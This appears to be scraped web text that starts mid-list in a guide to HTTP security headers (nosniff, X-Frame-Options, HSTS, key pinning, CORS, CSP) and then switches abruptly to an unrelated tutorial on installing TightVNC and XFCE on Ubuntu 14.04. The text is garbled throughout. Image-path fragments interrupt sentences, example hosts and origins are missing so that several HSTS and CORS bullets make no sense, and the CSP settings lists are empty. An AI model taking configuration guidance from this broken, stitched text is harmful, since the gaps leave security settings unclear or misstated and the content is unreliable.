  8. text/vbs9. text/vbscript
For Chrome, the following are supported MIME types:
  1. text/javascript
  2. text/ecmascript
  3. application/javascript
  4. application/ecmascript
  5. application/x-javascript
  6. text/javascript1.1
  7. text/javascript1.2
  8. text/javascript1.3
  9. text/jscript
  10. text/livescript

Valid Settings

  • nosniff - This is the only valid setting, it must match nosniff.

Common Invalid Settings

  • 'nosniff' - Quotes are not allowed.
  • : nosniff - Incorrectly adding an additional : is also invalid.How To Test

Open the developer panel in Internet Explorer or Chrome and observe the difference between: having nosniff and not having nosniff set in the console output.

External References



This header is for configuring which sites are allowed to frame the loaded resource. Its primary purpose is to protect against UI redressing style attacks. Internet Explorer has supported the ALLOW-FROM directive since IE8 and Firefox from 18. Both Chrome and Safari do not support ALLOW-FROM, however WebKit is currently discussing it.

Valid Settings

  • DENY - Denies any resource (local or remote) from attempting to frame the resource that also supplied the X-Frame-Options header.
  • SAMEORIGIN - Allows only resources which are apart of the Same Origin Policy to frame the protected resource.
  • ALLOW-FROM - Allows a single serialized-origin (must have scheme) to frame the protected resource. This is only valid in Internet Explorer and Firefox. The default of other browsers is to allow any origin (as if X-Frame-Options was not set).

Common Invalid Settings

  • ALLOW FROM - The ALLOW-FROM directive must use the hyphen character, not a space between allow and from.
  • ALLOW-FROM - The ALLOW-FROM directive must use an URI with a valid scheme (http or https).

How To TestVisit the test cases and view the various options and how the browser responds to framing the resources.

External References



The Strict Transport Security (STS) header is for configuring user-agents to only communicate to the server over a secure transport. It is primarily used to protect against man-in-the-middle attacks by forcing all further communications to occur over TLS. Internet Explorer does not currently support the STS header. It should be noted that setting this header on a HTTPresponse has no effect since values could easily be forged by an active attack. To combat this bootstrapping problem, many browsers contain a preloaded list of sites that are configured for STS.

Valid Settings

The following values must exist over the secure connection (HTTPS) and are ineffective if accessed over HTTP.
  • max-age=31536000 - Tells the user-agent to cache the domain in the STS list for one year.
  • max-age=31536000; includeSubDomains - Tells the user-agent to cache the domain in the STS list for one year and include any sub-domains.
  • max-age=0 - Tells the user-agent to remove, or not cache the host in the STS cache.

Common Invalid Settings

  • Setting the includeSubDomains directive on where users can still access the site at If does not redirect to and set the STS header, only direct requests to will be automatically redirected to by the user-agent.
  • max-age=60 - This only sets the domain in the STS cache for 60 seconds. This is not long enough to protect a user who accesses the site, goes to their local coffee shop and attempts to access the site over http first.
  • max-age=31536000 includeSubDomains - Directives must be separated by a ;. In this case Chrome will not add the site to the STS cache even though the max-age valueis correct.
  • max-age=31536000, includeSubDomains - Same as above.
  • max-age=0 - While this is technically a valid configuration. Many sites may do this accidentally, thinking a value of 0 means forever.

How To Test

Determining if a host is your STS cache is possible by accessing "chrome://net-internals/#hsts" in Google Chrome. First, check if the domain is in the STS cache by using the Query Domain option. Next, visit the site that returns the STS header over HTTPS and attempt to query it again to determine if it was added successfully.

External References

Public-Key-Pins (DraftHeader)


This header is still under draft specification but may have clear security impacts so it has been added to this list. The purpose of the Public-Key-Pins (PKP) header is to allow site operators to provide hashed public key information to be stored in the browser's cache. Much like it Strict-Transport-Security header it will help user's from active man-in-the-middle attacks.The header may include multiple pin- directives. For example, pin-sha256=base64(sha256(SPKI)). The base64 encoded sha256 hash is the result of hashing the Subject Public Key Info (SPKI) field of an X.509 certificate. While the specification or implementations may change, it was observed that not encapsulating the hashes in quotes is invalid and the hashes will not be added to the PKP cache in Chrome 33.
This header acts much like STS by including the max-age and includeSubDomains directive. Additionally, PKP supports a Public-Key-Pins-Report-Only header which can be used to report violations but will not enforce the pinning of certificate information, however this does not appear to be implemented in Chrome yet.

Valid Settings

  • max-age=3000; pin-sha256="d6qzRu9zOECb90Uez27xWltNsj0e1Md7GkYYkVoZWmM="; - Pins this host for 3000 seconds using the base64 encoded sha256 hash of the x.509 certificate's Subject Public Key Info with hashes properly encapsulatedin quotes.
  • max-age=3000; pin-sha256="d6qzRu9zOECb90Uez27xWltNsj0e1Md7GkYYkVoZWmM="; report-uri="" - Same as above but allows violations to be reported. Note that if this value is sent in the Public-Key-Pins header the user-agent should enforce and report violations. If the value is sent in Public-Key-Pins-Report-Only it will not be enforced but violations will be reported to the defined site.

Common Invalid Settings

  • max-age=3000; pin-sha256=d6qzRu9zOECb90Uez27xWltNsj0e1Md7GkYYkVoZWmM=; - Not encapsulating the hash value in quotes leads to Chrome 33 not adding the keys to the PKP cache. This mistake was observed in all but one of the four sites that returned this or the report-only header response.

How To Test

Using the same methodas Strict-Transport-Security additional information under the pubkey_hashes field should be visible, if the site successfully had the PKP hashes added.

External References



Access-Control-Allow-Origin is apart of the Cross Origin Resource Sharing (CORS) specification. This header is used to determine which sites are allowed to access the resource by defining either a single origin or all sites (denoted by a wildcard value). It should be noted that if the resource has the wildcard value set, then the Access-Control-Allow-Credentials option will not be valid and the user-agent's cookies will not be sent in the request.

Valid Settings

  • * - Wildcard value allowing any remote resource to access thecontent of the resource which returned the Access-Control-Allow-Origin header.
  • - A single serialized origin (http://[host], or https://[host]).

Common Invalid Settings

  •, - Multiple serialized origins separated by a comma or space. Only a single origin is possible.
  • * - Wildcard subdomain origins defined such as: * Only a single origin is possible.
  • http://* - Same as above

How To Test

It is easy to determine if the header is configured properly because if it is not, the CORS request will simply fail to return any data.

External References

Content-Security-Policy 1.0


Content Security Policy is a collection of directives which can be used to restrict how a pageloads various resources. Currently, Internet Explorer only supports a subsetof CSP and only with the X-Content-Security-Policy header. Chrome and Firefox currently support 1.0 of CSP, however version 1.1 of the policy is currently being developed. Configured properly it can help protect a site's resources from various attacks such as XSS and UI redressing related issues.
There are 10 possible directives which can each be configured to restrict when and how resources are loaded.
  • default-src - This directive sets defaults for script-src, object-src, style-src, img-src, media-src, frame-src, font-src and connect-src. If none of the previous directives exist in the policy the user-agent will enact the rules of the default-src values.
  • script-src - Also has two additional settings:
    • unsafe-inline - Allows the resource to execute script code. An example would be code that exists in an HTML element's on* event values, or the text content of a script element inside the protected resource.
    • unsafe-eval - Allows the resource to execute code dynamically in functions, such as eval, setTimeout, setInterval, new Function etc.• object-src - Determines where plugins can be loaded and executed from.
  • style-src - Determines where CSS or style markup can be loaded from.
  • img-src - Determines where images can be loaded from.
  • media-src - Determines where video or audio data can be loaded from.
  • frame-src - Determines where frames can be embedded from.
  • font-src - Determines where fonts can be loaded from.
  • connect-src - Restricts which resources can be used in XMLHttpRequest, WebSocket and EventSource.
  • sandbox - An optional directive which specifies a sandbox policy for 'safely' embedding content into a sandbox.
There is also the report-uri directive which can be used to send reports when the policy is violated to a specified URL. This can be helpful for both debugging and being notified of an attack.
Additionally, a second header of Content-Security-Policy-Report-Only can be defined to not enforce CSP but to send potential violations to a report URL. It follows the same syntax and rules as the Content-Security-Policy header.

Valid Settings

Common Invalid Settings

How To Test

Open the developer panel and view the console in Chrome or Firefox to view any potential violations while debugging a site.

External References

Install and Configure VNC on Ubuntu 14.04


VNC, or "Virtual Network Computing", is a connection system that allows you to use your keyboard and mouse to interact with a graphical desktop environment on a remote server. VNC makes managing files, software, and settings on a remote server easier for users who are notyet comfortable with working with the command line.
In this guide, we will be setting up VNC on an Ubuntu 14.04 server and connecting to it securely through an SSH tunnel. The VNC server we will be using is TightVNC, a fast and lightweight remote control package. This choice will ensure that our VNC connection will be smooth and stable even on slower Internet connections.

Step One — Install Desktop Environment and VNC Server

By default, most Linux server installations will not come with a graphical desktop environment. If this is the case, we'll need to begin by installing one that we can work with. In this example, we will install XFCE4, which is very lightweight while still being familiar to most users.
We can get the XFCE packages, along with the package for TightVNC, directly from Ubuntu's software repositories using apt:
sudo apt-get update
sudo apt-get installxfce4 xfce4-goodies tightvncserver
To complete the VNC server's initial configuration, use the vncserver command to set up a secure password:
(After you set up your access password, you will be asked if you would like to enter a view-only password. Users who log in with the view-only password will not be able to control the VNC instance with their mouse or keyboard. This is a helpful option if you want to demonstrate something to other people using your VNC server.)
vncserver completes the installation of VNC by creating default configuration files and connection information for our server to use. With these packages installed, you are ready to configure your VNC server and graphical desktop.

Step Two — Configure VNC Server

First, we need to tell our VNC server what commands to perform when it starts up. These commands are located in a configuration file called xstartup. Our VNC server has an xstartup file preloaded already, but we need to use some different commands for our XFCE desktop.
When VNC is first set up, it launches a default server instance on port 5901. This port is called a display port, and is referred to by VNC as :1. VNC can launch multiple instances on other display ports,like :2, :3, etc. When working with VNC servers, remember that :X is a display port that refers to 5900+X.
Since we are going to be changing how our VNC servers are configured, we'll need to first stop the VNC server instance that is running on port 5901:
vncserver -kill :1
Before we begin configuring our new xstartup file, let's back up the original in case we need it later:
mv ~/.vnc/xstartup ~/.vnc/xstartup.bak
Now we can open a new xstartup file with nano:
nano ~/.vnc/xstartup
Insert these commands into the file so that they are performed automatically whenever you start or restart your VNC server:
xrdb $HOME/.Xresources
startxfce4 &
The first command in the file, xrdb $HOME/.Xresources, tells VNC's GUI framework to read the server user's .Xresources file. .Xresources is where a user can make changes to certain settings of the graphical desktop, like terminal colors, cursor themes, and font rendering.
The second command simply tells the server to launch XFCE, which is where you will find all of the graphical software that you need to comfortably manage your server.
